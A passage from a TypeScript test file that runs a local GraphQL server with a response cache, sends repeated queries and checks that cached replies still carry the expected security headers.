    const tiered = createApp({ db: tdb.db, responseCache: cache, limits });
    let replayed = 0;
    // No setSecurityHeaders here: what the tier sends is only what it recorded.
    const handler = cache.responses.handler((req: IncomingMessage, res: ServerResponse) => tiered(req, res), {
      onServed: () => replayed++,
    });
    const server = createServer(handler);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/graphql`;
      for (let n = 0; n < 4; n++) {
        const res = await fetch(url, {
          method: 'POST',
          headers: { 'content-type': 'application/json', accept: 'application/json' },
          body: JSON.stringify({ query: '{ issues(first: 2) { nodes { title } } }' }),
        });
        expect(res.status).toBe(200);
        await res.text();
        expectLocked(res, `read ${n + 1}`);
      }
      expect(replayed).toBeGreaterThanOrEqual(2);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
